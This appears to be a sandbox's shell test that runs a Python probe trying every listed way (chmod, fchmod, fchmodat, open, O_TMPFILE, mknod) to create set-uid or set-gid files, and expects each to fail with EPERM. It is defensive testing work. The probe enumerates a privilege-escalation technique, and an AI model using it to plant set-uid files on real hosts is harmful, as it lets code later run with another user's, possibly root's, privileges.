# A set-uid or set-gid file in the writable cwd runs with its owner's ids
# for whoever runs it on the host later: the caller's (a root caller's
# files are root's on disk). Every way to set the bits, for real.
cat >"$WORK/suid.py" <<'PY'
import errno, os, stat
def t(name, f):
    try:
        f()
        print(name, "OK")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, str(e.errno)))
open("suid-a", "w").close()
t("chmod-u", lambda: os.chmod("suid-a", 0o4755))
t("chmod-g", lambda: os.chmod("suid-a", 0o2755))
fd = os.open("suid-a", os.O_RDONLY)
t("fchmod", lambda: os.fchmod(fd, 0o4755))
t("fchmodat", lambda: os.chmod("suid-a", 0o6755, dir_fd=os.open(".", os.O_RDONLY)))
t("open-creat", lambda: os.close(os.open("suid-b", os.O_CREAT | os.O_WRONLY, 0o4755)))
t("open-tmpfile", lambda: os.close(os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o2755)))
t("mknod", lambda: os.mknod("suid-c", 0o4755 | stat.S_IFREG))
t("chmod-plain", lambda: os.chmod("suid-a", 0o755))
PY
chmod a+r "$WORK/suid.py"
for mode in default noflags strict; do
  rm -f "$WORK"/suid-*
  sbx $mode -- $PY suid.py
  expect_eq "$mode: no set-uid or set-gid bit can be set (chmod, fchmod, fchmodat, open, O_TMPFILE, mknod)" \
    "chmod-u EPERM chmod-g EPERM fchmod EPERM fchmodat EPERM open-creat EPERM open-tmpfile EPERM mknod EPERM chmod-plain OK" \
    "$(echo $OUT)"
  expect_eq "$mode: no set-uid or set-gid file on the host" "" "$(find "$WORK" -name 'suid-*' -perm /6000)"
done
rm -f "$WORK"/suid-*

done_testing
